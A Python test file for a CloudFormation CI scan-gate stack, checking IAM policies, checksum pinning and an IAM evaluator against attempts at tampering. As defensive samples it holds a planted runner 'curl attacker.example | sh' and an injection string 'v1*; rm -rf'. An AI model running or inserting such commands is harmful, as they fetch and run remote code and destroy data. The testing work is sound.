    def test_refuses_a_swapped_runner_and_an_empty_pin(self) -> None:
        planted = b"#!/bin/sh\ncurl attacker.example | sh\n"
        for project in ("ImageProject", "RepoProject"):
            for body, pin, why in (
                (planted, hashlib.sha256(self.RUNNER).hexdigest(), "another binary at the key"),
                (self.RUNNER, "", "no pin"),
            ):
                with self.subTest(project=project, why=why):
                    proc, target = self.run_install(project, body, pin)
                    self.assertNotEqual(proc.returncode, 0)
                    self.assertFalse(target.exists(), "nothing may be installed")
                    self.assertIn("RunnerCodeSha256", proc.stderr)

    def test_a_qscanner_download_is_pinned(self) -> None:
        rule = TEMPLATE["Rules"]["QScannerIsPinned"]
        self.assertEqual(rule["RuleCondition"], {"Fn::Not": [{"Fn::Equals": [{"Ref": "QScannerUrl"}, ""]}]})
        self.assertEqual(rule["Assertions"][0]["Assert"], {"Fn::Not": [{"Fn::Equals": [{"Ref": "QScannerSha256"}, ""]}]})
        for project in ("ImageProject", "RepoProject"):
            names = {e["Name"] for e in scan_env(project)}
            self.assertIn("QSCANNER_SHA256", names)
            self.assertNotIn("QSCANNER_TRUST_SAME_HOST_SHA256", names, "the stack never trusts a same-host checksum")

    def test_the_owner_is_the_code_bucket_owner_parameter_or_this_account(self) -> None:
        for project in ("ImageProject", "RepoProject"):
            env = {e["Name"]: e["Value"] for e in scan_env(project)}
            self.assertEqual(
                env["SCANGATE_CODE_BUCKET_OWNER"],
                {"Fn::If": ["HasCodeBucketOwner", {"Ref": "CodeBucketOwner"}, {"Ref": "AWS::AccountId"}]},
            )
            self.assertEqual(env["SCANGATE_RUNNER_SHA256"], {"Ref": "RunnerCodeSha256"})


    def test_every_command_is_a_string(self) -> None:
        # A plain YAML scalar with ": " in it silently becomes a mapping, which CodeBuild rejects.
        for project in ("ImageProject", "RepoProject", "PublisherProject"):
            for phase, body in buildspec(project)["phases"].items():
                for section in ("commands", "finally"):
                    for command in body.get(section, []):
                        with self.subTest(project=project, phase=phase):
                            self.assertIsInstance(command, str)


    def test_scan_project_variables_are_read_by_the_runner_or_the_buildspec(self) -> None:
        source = strip_tests(rust_sources(ROOT / "crates" / "cli" / "src"))
        runner = variables_read(source) | set(re.findall(r'const \w+: &str = "([A-Z][A-Z0-9_]*)"', source))
        if not runner:
            self.skipTest("crates/cli reads no environment yet")
        for project in ("ImageProject", "RepoProject"):
            spec_text = RESOURCES[project]["Properties"]["Source"]["BuildSpec"]["Fn::Sub"][0]
            in_spec = set(re.findall(r"\$\{?([A-Z][A-Z0-9_]*)", spec_text))
            env = [e["Name"] for e in scan_env(project)]
            with self.subTest(project=project):
                self.assertFalse([n for n in env if n not in runner | in_spec], "set but read by nobody")
                self.assertIn("QUALYS_ACCESS_TOKEN", runner, "the secret's variable must be the runner's token variable")


class StackSetTemplate(unittest.TestCase):
    def test_passes_only_and_all_required_stack_parameters(self) -> None:
        stackset, matches = decode(str(ROOT / "stacksets" / "scangate-stackset.yaml"))
        self.assertFalse(matches)
        props = stackset["Resources"]["StackSet"]["Properties"]
        passed = {p["ParameterKey"]: p["ParameterValue"] for p in props["Parameters"]}
        stack_params = TEMPLATE["Parameters"]
        self.assertFalse(set(passed) - set(stack_params), "passes parameters cfn/scangate.yaml does not have")
        required = {k for k, v in stack_params.items() if "Default" not in v}
        self.assertLessEqual(required, set(passed), "a required parameter of cfn/scangate.yaml is not passed")
        self.assertEqual(passed["CodeBucketAppendRegion"], "true")
        for key, value in passed.items():
            if isinstance(value, dict) and "Ref" in value:
                mine = stackset["Parameters"][value["Ref"]]
                with self.subTest(parameter=key):
                    self.assertEqual(mine.get("AllowedValues"), stack_params[key].get("AllowedValues"))
                    if "Default" in stack_params[key] and "Default" in mine:
                        self.assertEqual(str(mine.get("Default")), str(stack_params[key]["Default"]))
        self.assertEqual(props["PermissionModel"], "SERVICE_MANAGED")
        self.assertTrue(props["AutoDeployment"]["Enabled"])


def bucket_statement(sid: str) -> dict:
    for st in RESOURCES["ReportBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"]:
        if st.get("Sid") == sid:
            return st
    raise AssertionError(f"ReportBucketPolicy has no statement {sid}")


def role_statement(policy_resource: str, sid: str) -> dict:
    for st in statements(policy_resource):
        if st.get("Sid") == sid:
            return st
    raise AssertionError(f"{policy_resource} has no Allow statement {sid}")


class TrustBoundaries(unittest.TestCase):
    """docs/security.md: the template half of the controls against an uploader, a same-named code bucket and
    a forged gate invocation."""

    def test_only_the_processor_writes_results_state_and_quarantine(self) -> None:
        st = bucket_statement("OnlyTheProcessorWritesResults")
        self.assertEqual((st["Effect"], st["Principal"], st["Action"]), ("Deny", "*", ["s3:PutObject", "s3:DeleteObject*"]))
        self.assertEqual(
            st["Resource"],
            [{"Fn::Sub": "${ReportBucket.Arn}/results/*"}, {"Fn::Sub": "${ReportBucket.Arn}/state/*"},
             {"Fn::Sub": "${ReportBucket.Arn}/quarantine/*"}],
        )
        processor = {"Fn::GetAtt": ["ProcessorRole", "Arn"]}
        self.assertEqual(st["Condition"], {"ArnNotEquals": {"aws:PrincipalArn": {"Fn::If": [
            "HasBreakGlassRole", [processor, {"Ref": "BreakGlassRoleArn"}], [processor]]}}})
        self.assertEqual(TEMPLATE["Parameters"]["BreakGlassRoleArn"]["Default"], "")
        # And no other role is granted writes there in the first place.
        for policy in ("ScanPolicy", "GatePolicy", "PublisherPolicy"):
            for st in statements(policy):
                if "s3:PutObject" in as_list(st["Action"]):
                    for resource in as_list(st["Resource"]):
                        text = str(resource)
                        for prefix in ("/results/", "/state/", "/quarantine/"):
                            self.assertNotIn(prefix, text, f"{policy} {st.get('Sid')} writes {prefix}")

    def test_only_the_scan_role_and_named_uploaders_write_scans(self) -> None:
        st = bucket_statement("OnlyNamedUploadersWriteScans")
        self.assertEqual((st["Effect"], st["Principal"], st["Action"]), ("Deny", "*", "s3:PutObject"))
        self.assertEqual(st["Resource"], {"Fn::Sub": "${ReportBucket.Arn}/scans/*"})
        self.assertEqual(TEMPLATE["Parameters"]["UploaderRoleArns"]["Default"], "")
        scan_role = f"arn:aws:iam::{ACCOUNT}:role/qualys-codebuild-scan-{REGION}"
        builder = f"arn:aws:iam::{ACCOUNT}:role/ci/builder"
        intruder = f"arn:aws:iam::{ACCOUNT}:role/admin"
        put = "s3:PutObject"
        plain = Resolved()
        exempt = plain.statements("ReportBucketPolicy")
        (resolved,) = [s for s in exempt if s.get("Sid") == "OnlyNamedUploadersWriteScans"]
        self.assertEqual(set(resolved["Condition"]["ArnNotLike"]["aws:PrincipalArn"]), {scan_role},
                         "without UploaderRoleArns and CI roles only the scan role uploads")
        self.assertNotIn("OnlyNamedUploadersWriteScans", plain.denies("ReportBucketPolicy", put, {"aws:PrincipalArn": scan_role}))
        for who in (builder, intruder):
            self.assertIn("OnlyNamedUploadersWriteScans", plain.denies("ReportBucketPolicy", put, {"aws:PrincipalArn": who}))
        named = Resolved(UploaderRoleArns=[builder])
        self.assertNotIn("OnlyNamedUploadersWriteScans", named.denies("ReportBucketPolicy", put, {"aws:PrincipalArn": builder}))
        self.assertIn("OnlyNamedUploadersWriteScans", named.denies("ReportBucketPolicy", put, {"aws:PrincipalArn": intruder}))

    def test_runner_is_fetched_only_from_the_code_owners_bucket(self) -> None:
        st = role_statement("ScanPolicy", "FetchRunner")
        self.assertEqual(
            st["Condition"],
            {"StringEquals": {"s3:ResourceAccount": {"Fn::If": ["HasCodeBucketOwner", {"Ref": "CodeBucketOwner"},
                                                                 {"Ref": "AWS::AccountId"}]}}},
        )
        self.assertEqual(TEMPLATE["Parameters"]["CodeBucketOwner"]["AllowedPattern"], "^(|[0-9]{12})$")

    def test_functions_send_their_own_account_as_expected_bucket_owner(self) -> None:
        for function in ("ProcessorFunction", "GateFunction"):
            env = RESOURCES[function]["Properties"]["Environment"]["Variables"]
            self.assertEqual(env["EXPECTED_BUCKET_OWNER"], {"Ref": "AWS::AccountId"}, function)

    def test_metadata_cannot_relax_thresholds_unless_the_stack_opts_in(self) -> None:
        self.assertEqual(TEMPLATE["Parameters"]["AllowMetadataRelax"]["Default"], "false")
        env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
        self.assertEqual(env["ALLOW_METADATA_RELAX"], {"Ref": "AllowMetadataRelax"})

    def test_the_gate_asks_codepipeline_and_has_no_resource_policy(self) -> None:
        # CodePipeline's Lambda invoke action calls the function with the pipeline's service role
        # (lambda:InvokeFunction in that role's policy): no resource-based policy is needed, so the stack adds
        # none, and only principals of this account that IAM allows may invoke it. What they send is not trusted:
        # the gate reads the job from CodePipeline (GetJobDetails).
        self.assertIn("codepipeline:GetJobDetails", as_list(role_statement("GatePolicy", "AnswerPipelineJobs")["Action"]))
        for name, resource in RESOURCES.items():
            if resource["Type"] != "AWS::Lambda::Permission":
                continue
            props = resource["Properties"]
            self.assertNotEqual(props.get("Principal"), "*", f"{name}: public invoke")
            if props.get("FunctionName") in ({"Ref": "GateFunction"}, {"Fn::GetAtt": ["GateFunction", "Arn"]}):
                self.assertEqual(props.get("Principal"), "codepipeline.amazonaws.com", name)
                self.assertEqual(props.get("SourceAccount"), {"Ref": "AWS::AccountId"}, name)

    def test_the_processor_may_read_the_uploading_build(self) -> None:
        st = role_statement("ProcessorPolicy", "VerifyTheUploadingBuild")
        # BatchGetProjects: the project's own buildspec, compared with the build's (docs/security.md, "Provenance").
        self.assertEqual(st["Action"], ["codebuild:BatchGetBuilds", "codebuild:BatchGetProjects"])
        self.assertEqual(
            st["Resource"], {"Fn::Sub": "arn:${AWS::Partition}:codebuild:${AWS::Region}:${AWS::AccountId}:project/*"}
        )


ACCOUNT, REGION, PARTITION = "123456789012", "us-east-1", "aws"
ARN_FORMATS = {
    # resource type -> ARN of a resource named n (what Fn::GetAtt [X, Arn] and ${X.Arn} resolve to)
    "AWS::IAM::Role": "arn:aws:iam::{account}:role/{n}",
    "AWS::CodeBuild::Project": "arn:aws:codebuild:{region}:{account}:project/{n}",
    "AWS::CodeBuild::ReportGroup": "arn:aws:codebuild:{region}:{account}:report-group/{n}",
    "AWS::S3::Bucket": "arn:aws:s3:::{n}",
    "AWS::KMS::Key": "arn:aws:kms:{region}:{account}:key/{n}",
    "AWS::SQS::Queue": "arn:aws:sqs:{region}:{account}:{n}",
    "AWS::Logs::LogGroup": "arn:aws:logs:{region}:{account}:log-group:{n}:*",
}


class Resolved:
    """The template resolved for one account-region and a set of parameter values: enough intrinsic functions to
    read the IAM policies as IAM would see them, so the tests below can try an attacker's request against them."""

    NO_VALUE = object()

    def __init__(self, **params) -> None:
        self.params = {k: v.get("Default", "") for k, v in TEMPLATE["Parameters"].items()}
        self.params.update(params)

    def param(self, name: str):
        value = self.params[name]
        if TEMPLATE["Parameters"][name]["Type"] == "CommaDelimitedList":
            return value if isinstance(value, list) else str(value).split(",")
        return str(value)

    def condition(self, name: str) -> bool:
        return bool(self.value(TEMPLATE["Conditions"][name]))

    def name_of(self, logical: str) -> str:
        props = RESOURCES[logical].get("Properties", {})
        for key in ("Name", "RoleName", "BucketName", "QueueName", "LogGroupName", "ManagedPolicyName"):
            if key in props:
                return self.value(props[key])
        return logical.lower()

    def arn_of(self, logical: str) -> str:
        kind = RESOURCES[logical]["Type"]
        return ARN_FORMATS[kind].format(account=ACCOUNT, region=REGION, n=self.name_of(logical))

    def sub(self, text: str, local: dict) -> str:
        def one(m: re.Match) -> str:
            ref = m.group(1)
            if ref in local:
                return str(local[ref])
            if ref.endswith(".Arn"):
                return self.arn_of(ref[:-4])
            return str(self.value({"Ref": ref}))
        return re.sub(r"\$\{([A-Za-z0-9:.]+)\}", one, text)

    def value(self, node):
        if isinstance(node, list):
            out = [self.value(v) for v in node]
            return [v for v in out if v is not self.NO_VALUE]
        if not isinstance(node, dict) or len(node) != 1:
            if not isinstance(node, dict):
                return node
            out = {k: self.value(v) for k, v in node.items()}
            return {k: v for k, v in out.items() if v is not self.NO_VALUE}
        (fn, arg), = node.items()
        if fn == "Ref":
            pseudo = {"AWS::AccountId": ACCOUNT, "AWS::Region": REGION, "AWS::Partition": PARTITION,
                      "AWS::NoValue": self.NO_VALUE}
            if arg in pseudo:
                return pseudo[arg]
            if arg in self.params:
                return self.param(arg)
            return self.name_of(arg) if RESOURCES[arg]["Type"] != "AWS::IAM::ManagedPolicy" else f"arn:aws:iam::{ACCOUNT}:policy/{self.name_of(arg)}"
        if fn == "Fn::Sub":
            text, local = (arg, {}) if isinstance(arg, str) else (arg[0], {k: self.value(v) for k, v in arg[1].items()})
            return self.sub(text, local)
        if fn == "Fn::GetAtt":
            logical, attribute = arg if isinstance(arg, list) else arg.split(".", 1)
            return self.arn_of(logical) if attribute == "Arn" else {"Fn::GetAtt": [logical, attribute]}
        if fn == "Fn::If":
            return self.value(arg[1] if self.condition(arg[0]) else arg[2])
        if fn == "Fn::Join":
            return arg[0].join(str(v) for v in self.value(arg[1]))
        if fn == "Fn::Split":
            return str(self.value(arg[1])).split(arg[0])
        if fn == "Fn::Select":
            return self.value(arg[1])[int(arg[0])]
        if fn == "Fn::Equals":
            return self.value(arg[0]) == self.value(arg[1])
        if fn == "Fn::Not":
            return not self.value(arg[0])
        if fn == "Fn::And":
            return all(self.value(a) for a in arg)
        if fn == "Fn::Or":
            return any(self.value(a) for a in arg)
        if fn == "Condition":
            return self.condition(arg)
        return {fn: self.value(arg)}

    def statements(self, logical: str) -> list[dict]:
        props = RESOURCES[logical]["Properties"]
        document = props.get("PolicyDocument") or props.get("ResourcePolicy")
        found = self.value(document["Statement"])
        return [st for st in found if isinstance(st, dict)]

    def allows(self, policy: str, action: str, resource: str) -> bool:
        """Whether an Allow statement of the identity policy grants action on resource (conditions not evaluated)."""
        for st in self.statements(policy):
            if st["Effect"] != "Allow" or action not in as_list(st["Action"]):
                continue
            if any(fnmatch.fnmatchcase(resource, pattern) for pattern in as_list(st["Resource"])):
                return True
        return False

    def denies(self, policy: str, action: str, context: dict) -> list[str]:
        """The Sids of Deny statements whose action and conditions match a request with these context keys
        (None = absent); principals and resources are not looked at (see `decide` for the full evaluation)."""
        hits = []
        for st in self.statements(policy):
            if st["Effect"] != "Deny" or not action_matches(st, action):
                continue
            if conditions_hold(st.get("Condition", {}), context):
                hits.append(st["Sid"])
        return hits

    def decide(self, policy: str, request: dict) -> tuple[str, list[str]]:
        """What a resource policy (bucket or queue policy) decides for one request, as IAM evaluates it:
        ("Deny", sids) when a Deny statement matches (principal or NotPrincipal, action or NotAction, resource or
        NotResource, every condition), else ("Allow", sids) when an Allow statement matches, else ("Implicit", []).
        request: principal (an IAM ARN, or "service:<name>" for a service principal), action, resource, context
        (condition keys; aws:PrincipalArn is filled in from an IAM principal, as IAM does)."""
        principal = request["principal"]
        context = dict(request.get("context", {}))
        if not principal.startswith("service:"):
            context.setdefault("aws:PrincipalArn", principal)
        matched = {"Deny": [], "Allow": []}
        for st in self.statements(policy):
            if not principal_matches(st, principal) or not action_matches(st, request["action"]):
                continue
            if not element_matches(st, "Resource", request["resource"], fnmatch.fnmatchcase):
                continue
            if conditions_hold(st.get("Condition", {}), context):
                matched[st["Effect"]].append(st.get("Sid", "?"))
        for effect in ("Deny", "Allow"):
            if matched[effect]:
                return effect, matched[effect]
        return "Implicit", []


def element_matches(st: dict, element: str, value: str, match) -> bool:
    """Action/NotAction, Resource/NotResource: a statement without either applies to everything."""
    if element in st:
        return any(match(value, pattern) for pattern in as_list(st[element]))
    if "Not" + element in st:
        return not any(match(value, pattern) for pattern in as_list(st["Not" + element]))
    return True


def action_matches(st: dict, action: str) -> bool:
    # Actions are case-insensitive and take * and ? wildcards.
    return element_matches(st, "Action", action, lambda a, p: fnmatch.fnmatchcase(a.lower(), p.lower()))


def principal_matches(st: dict, principal: str) -> bool:
    """Principal / NotPrincipal: "*", {"AWS": arn|account|"*"}, {"Service": name}. principal is an IAM ARN or
    "service:<name>"."""
    def named(spec) -> bool:
        if spec == "*":
            return True
        for kind, values in spec.items():
            for value in as_list(values):
                if kind == "Service" and principal == f"service:{value}":
                    return True
                if kind == "AWS" and not principal.startswith("service:"):
                    account = principal.split(":")[4]
                    if value in ("*", principal, account, f"arn:aws:iam::{account}:root"):
                        return True
        return False
    if "Principal" in st:
        return named(st["Principal"])
    if "NotPrincipal" in st:
        return not named(st["NotPrincipal"])
    return True


def conditions_hold(block: dict, context: dict) -> bool:
    """Every operator and every key of a Condition block must hold (AND); values of one key are OR'ed."""
    return all(condition_holds(op, key, expected, context.get(key))
               for op, keys in block.items() for key, expected in keys.items())


def condition_holds(op: str, key: str, expected, actual) -> bool:
    """The IAM condition operators the stack's statements use. A key absent from the request (None): a positive
    operator does not match, a negated one (...Not...) matches, ...IfExists matches; Null tests presence."""
    expected = as_list(expected)
    if op == "Null":
        return (actual is None) == (str(expected[0]).lower() == "true")
    if op.startswith("ForAnyValue:"):
        return actual is not None and any(condition_holds(op.split(":", 1)[1], key, expected, a) for a in as_list(actual))
    if_exists = op.endswith("IfExists")
    base = op.removesuffix("IfExists")
    if actual is None:
        return if_exists or "Not" in base
    tests = {
        "StringEquals": lambda a, e: a == e,
        "StringLike": fnmatch.fnmatchcase,
        "ArnEquals": lambda a, e: a == e,
        "ArnLike": fnmatch.fnmatchcase,
        "Bool": lambda a, e: str(a).lower() == str(e).lower(),
    }
    positive = base.replace("Not", "")
    if positive not in tests:
        raise AssertionError(f"condition operator {op} ({key}) is not modelled by this test")
    hit = any(tests[positive](str(a), str(e)) for a in as_list(actual) for e in expected)
    return not hit if "Not" in base else hit


class HardenedStack(unittest.TestCase):
    """docs/security.md, "The stack's own resources": each test tries the attacker's request against the resolved
    template (an IAM evaluator for the statements the stack writes)."""

    def test_the_scan_role_cannot_write_pipeline_artifacts(self) -> None:
        stack = Resolved(PipelineArtifactBucket="codepipeline-artifacts")
        other_pipeline_output = "arn:aws:s3:::codepipeline-artifacts/victim-app/BuildOutpu/Ab3xYz9"
        for action in ("s3:PutObject", "s3:DeleteObject", "s3:PutObjectAcl", "s3:RestoreObject"):
            self.assertFalse(stack.allows("ScanPolicy", action, other_pipeline_output), action)
        self.assertTrue(stack.allows("ScanPolicy", "s3:GetObject", other_pipeline_output), "input artifacts stay readable")
        writes = [st for st in statements("ScanPolicy") if "s3:PutObject" in as_list(st["Action"])]
        for st in writes:
            self.assertNotIn("PipelineArtifactBucket", str(st["Resource"]), st.get("Sid"))
        self.assertNotIn("CodePipeline", CONTRACT["PlatformActions"]["ScanPolicy"]["s3:PutObject"],
                         "PlatformActions no longer explains pipeline artifact writes")

    def test_the_scan_role_writes_only_its_own_projects_report_groups(self) -> None:
        stack = Resolved(PublishProjects=["app"])
        group = f"arn:aws:codebuild:{REGION}:{ACCOUNT}:report-group/"
        for action in ("codebuild:CreateReport", "codebuild:BatchPutTestCases", "codebuild:UpdateReport"):
            for mine in (f"qualys-codebuild-image-{REGION}", f"qualys-codebuild-repo-{REGION}",
                         f"qualys-codebuild-image-{REGION}-qualys-image-scans"):
                self.assertTrue(stack.allows("ScanPolicy", action, group + mine), (action, mine))
            # The publisher's groups, a listed project's group, any other qualys-* group: refused.
            for foreign in (f"qualys-qualys-codebuild-image-{REGION}-image", "qualys-app-image", "qualys-payments-repo",
                            "qualys-other"):
                self.assertFalse(stack.allows("ScanPolicy", action, group + foreign), (action, foreign))

    def test_publisher_groups_only_for_the_stack_projects_and_the_listed_ones(self) -> None:
        group = f"arn:aws:codebuild:{REGION}:{ACCOUNT}:report-group/"
        own = [f"qualys-qualys-codebuild-{p}-{REGION}-{t}" for p in ("image", "repo") for t in ("image", "repo", "rootfs", "other")]
        for listed in ([], ["app"], ["app", "team_b", "c1", "d-2", "e5"]):
            stack = Resolved(PublishProjects=listed or [""])
            for policy, action in (("ProcessorPolicy", "codebuild:CreateReportGroup"),
                                   ("PublisherPolicy", "codebuild:BatchPutTestCases")):
                with self.subTest(listed=listed, policy=policy):
                    for name in own + [f"qualys-{p}-{t}" for p in listed for t in ("image", "repo", "rootfs", "other")]:
                        self.assertTrue(stack.allows(policy, action, group + name), name)
                    # An uploader's made-up project segment, a name sharing a listed prefix, any qualys-* group.
                    for name in ("qualys-flood-1-image", "qualys-app-x-image", "qualys-appimage", "qualys-*", "qualys-other"):
                        self.assertFalse(stack.allows(policy, action, group + name), name)
        env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
        self.assertEqual(Resolved(PublishProjects=["app", "b"]).value(env["PUBLISH_PROJECTS"]),
                         f"qualys-codebuild-image-{REGION},qualys-codebuild-repo-{REGION},app,b")

    def test_the_start_guard_refuses_overrides_that_change_what_a_scan_runs(self) -> None:
        stack = Resolved()
        attacks = {
            "a buildspec override": {"codebuild:source.buildspec": "true"},
            "another build image": {"codebuild:environment.image": "attacker/fake-aws-cli"},
            "privileged mode": {"codebuild:environment.privilegedMode": "true"},
            "the runner pin": {"codebuild:environment.environmentVariables.name": ["IMAGE_ID", "SCANGATE_RUNNER_SHA256"]},
            "the code bucket owner": {"codebuild:environment.environmentVariables.name": ["SCANGATE_CODE_BUCKET_OWNER"]},
            "a looser threshold": {"codebuild:environment.environmentVariables.name": ["MAX_CRITICAL"]},
        }
        for what, context in attacks.items():
            self.assertTrue(stack.denies("ScanStartGuardPolicy", "codebuild:StartBuild", context), what)
        for fine in ({}, {"codebuild:environment.environmentVariables.name": ["IMAGE_ID"]},
                     {"codebuild:environment.environmentVariables.name":
                      ["IMAGE_ID", "SCANGATE_PIPELINE", "SCANGATE_PIPELINE_EXECUTION_ID", "SCANGATE_SOURCE_BRANCH"]}):
            self.assertEqual(stack.denies("ScanStartGuardPolicy", "codebuild:StartBuild", fine), [], fine)
        for st in stack.statements("ScanStartGuardPolicy"):
            self.assertEqual(st["Effect"], "Deny", "the guard only takes rights away")
            self.assertEqual(sorted(as_list(st["Resource"])),
                             [stack.arn_of("ImageProject"), stack.arn_of("RepoProject")], st["Sid"])
        self.assertIn("ScanStartGuardPolicyArn", TEMPLATE["Outputs"])

    def test_only_the_scan_role_and_named_admins_read_the_token(self) -> None:
        scan_role = f"arn:aws:iam::{ACCOUNT}:role/qualys-codebuild-scan-{REGION}"
        admin = f"arn:aws:iam::{ACCOUNT}:role/security-admin"
        intruder = f"arn:aws:iam::{ACCOUNT}:role/ci-deployer-with-secretsmanager-star"
        plain = Resolved()
        read = "secretsmanager:GetSecretValue"
        self.assertEqual(plain.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": scan_role}), [])
        self.assertTrue(plain.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": intruder}))
        self.assertTrue(plain.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": admin}), "not named: no read")
        self.assertEqual(plain.denies("QualysSecretPolicy", "secretsmanager:PutSecretValue", {"aws:PrincipalArn": intruder}),
                         [], "without named admins, writes are left to IAM")
        named = Resolved(SecretAdminRoleArns=[admin])
        self.assertEqual(named.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": admin}), [])
        self.assertEqual(named.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": scan_role}), [])
        self.assertTrue(named.denies("QualysSecretPolicy", read, {"aws:PrincipalArn": intruder}))
        for write in ("secretsmanager:PutSecretValue", "secretsmanager:UpdateSecretVersionStage"):
            self.assertTrue(named.denies("QualysSecretPolicy", write, {"aws:PrincipalArn": intruder}), write)
            self.assertTrue(named.denies("QualysSecretPolicy", write, {"aws:PrincipalArn": scan_role}), write)
            self.assertEqual(named.denies("QualysSecretPolicy", write, {"aws:PrincipalArn": admin}), [], write)
        props = RESOURCES["QualysSecretPolicy"]["Properties"]
        self.assertEqual((props["SecretId"], props["BlockPublicPolicy"]), ({"Ref": "QualysSecret"}, True))

    def test_role_and_repository_arn_lists_refuse_wildcards(self) -> None:
        good = {
            "UploaderRoleArns": f"arn:aws:iam::{ACCOUNT}:role/ci/builder",
            "BreakGlassRoleArn": f"arn:aws:iam::{ACCOUNT}:role/ops/scangate-break-glass",
            "WaiverAdminRoleArns": f"arn:aws:iam::{ACCOUNT}:role/security/waiver-admin",
            "SecretAdminRoleArns": f"arn:aws-us-gov:iam::{ACCOUNT}:role/security-admin",
            "EcrRepositoryArns": f"arn:aws:ecr:eu-west-1:{ACCOUNT}:repository/team/app",
            "AlarmTopicArn": f"arn:aws:sns:{REGION}:{ACCOUNT}:alarms",
            "CodeSigningProfileVersionArn": f"arn:aws:signer:{REGION}:{ACCOUNT}:/signing-profiles/scangate/a1B2c3D4e5",
            "GitHubOidcProviderArn": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com",
            "GitLabOidcProviderArn": f"arn:aws:iam::{ACCOUNT}:oidc-provider/gitlab.example.com",
            "AzureDevOpsOidcProviderArn":
                f"arn:aws:iam::{ACCOUNT}:oidc-provider/vstoken.dev.azure.com/0f0e0d0c-0b0a-0908-0706-050403020100",
            "JenkinsPrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/jenkins-agent",
        }
        arn_params = {n for n in TEMPLATE["Parameters"] if n.endswith(("Arn", "Arns"))}
        self.assertEqual(arn_params, set(good), "a new ARN parameter: add it here with a valid example")
        for name, value in good.items():
            pattern = TEMPLATE["Parameters"][name]["AllowedPattern"]
            with self.subTest(parameter=name):
                self.assertRegex(value, pattern)
                self.assertRegex("", pattern, "empty (the default) stays valid")
                for attack in (value[: value.rindex("/") + 1] + "*" if "/" in value else value + "*",
                               value.replace(ACCOUNT, "*"), value + "?", value.replace(":", ":*", 1), "*"):
                    self.assertIsNone(re.fullmatch(pattern, attack), attack)

    def test_report_size_and_lambda_code_are_bounded_and_pinned(self) -> None:
        size = TEMPLATE["Parameters"]["MaxReportBytes"]
        memory = TEMPLATE["Parameters"]["ProcessorMemorySize"]
        self.assertEqual((size["MinValue"], size["MaxValue"]), (0, memory["MaxValue"] * 1024 * 1024 // 2))
        for function, version in (("ProcessorFunction", "ProcessorCodeVersion"), ("GateFunction", "GateCodeVersion")):
            props = RESOURCES[function]["Properties"]
            pinned = Resolved(**{version: "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY"}).value(props["Code"])
            self.assertEqual(pinned["S3ObjectVersion"], "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY", function)
            self.assertNotIn("S3ObjectVersion", Resolved().value(props["Code"]), "empty = latest")
            self.assertIsNone(re.fullmatch(TEMPLATE["Parameters"][version]["AllowedPattern"], "v1*; rm -rf"), version)
            arn = f"arn:aws:signer:{REGION}:{ACCOUNT}:/signing-profiles/scangate/a1B2c3D4e5"
            self.assertEqual(Resolved(CodeSigningProfileVersionArn=arn).value(props["CodeSigningConfigArn"]),
                             {"Fn::GetAtt": ["CodeSigningConfig", "CodeSigningConfigArn"]})
            self.assertIs(Resolved().value(props["CodeSigningConfigArn"]), Resolved.NO_VALUE, "off by default")
        csc = RESOURCES["CodeSigningConfig"]
        self.assertEqual(csc["Condition"], "HasCodeSigning")
        self.assertEqual(csc["Properties"]["CodeSigningPolicies"], {"UntrustedArtifactOnDeployment": "Enforce"})
        self.assertEqual(csc["Properties"]["AllowedPublishers"]["SigningProfileVersionArns"],
                         [{"Ref": "CodeSigningProfileVersionArn"}])


BREAK_GLASS = f"arn:aws:iam::{ACCOUNT}:role/ops/scangate-break-glass"
PROCESSOR_ROLE = f"arn:aws:iam::{ACCOUNT}:role/qualys-scangate-report-processor-{REGION}"
REPORT_BUCKET = f"arn:aws:s3:::qualys-scangate-reports-{ACCOUNT}-{REGION}"
# Principals that hold s3:* / sqs:* through their own IAM policies (or that the stack grants other rights).
OTHER_PRINCIPALS = {
    "the scan role": f"arn:aws:iam::{ACCOUNT}:role/qualys-codebuild-scan-{REGION}",
    "an uploader": f"arn:aws:iam::{ACCOUNT}:role/ci/builder",
    "the gate": f"arn:aws:iam::{ACCOUNT}:role/qualys-scangate-pipeline-gate-{REGION}",
    "an administrator": f"arn:aws:iam::{ACCOUNT}:role/Admin",
    "the account root": f"arn:aws:iam::{ACCOUNT}:root",
    "a role named like the processor on another path": f"arn:aws:iam::{ACCOUNT}:role/x/qualys-scangate-report-processor-{REGION}",
    "the break-glass role, when the stack does not name it": BREAK_GLASS,
}


class PolicyEvaluator(unittest.TestCase):
    """The evaluator the attack tests below rely on, checked against IAM's documented semantics: a test of the
    policies is only as good as this."""

    def test_absent_keys_negated_operators_and_if_exists(self) -> None:
        table = [
            # operator, expected, actual, holds
            ("ArnNotEquals", "arn:a", None, True),        # absent key: a negated operator matches
            ("ArnNotEquals", "arn:a", "arn:a", False),
            ("ArnNotEquals", ["arn:a", "arn:b"], "arn:b", False),  # any listed value equal: no match
            ("ArnNotEquals", ["arn:a", "arn:b"], "arn:c", True),
            ("ArnEquals", "arn:a", None, False),          # absent key: a positive operator does not match
            ("ArnEquals", "arn:a", "arn:a", True),
            ("ArnLike", "arn:*:x", "arn:y:x", True),
            ("ArnNotLike", "arn:*:x", "arn:y:x", False),
            ("StringNotEquals", "1", None, True),
            ("StringNotEquals", "1", "2", True),
            ("StringEquals", "1", "1", True),
            ("StringEqualsIfExists", "1", None, True),
            ("StringNotEqualsIfExists", "1", "1", False),
            ("Bool", "false", "false", True),
            ("Bool", "false", None, False),
            ("Null", "true", None, True),
            ("Null", "true", "x", False),
        ]
        for op, expected, actual, holds in table:
            with self.subTest(op=op, expected=expected, actual=actual):
                self.assertIs(condition_holds(op, "k", expected, actual), holds)
        with self.assertRaises(AssertionError):
            condition_holds("DateGreaterThan", "k", "x", "y")

    def test_principals_actions_resources_and_deny_over_allow(self) -> None:
        role = f"arn:aws:iam::{ACCOUNT}:role/r"
        self.assertTrue(principal_matches({"Principal": "*"}, "service:s3.amazonaws.com"))
        self.assertTrue(principal_matches({"Principal": {"AWS": ACCOUNT}}, role))
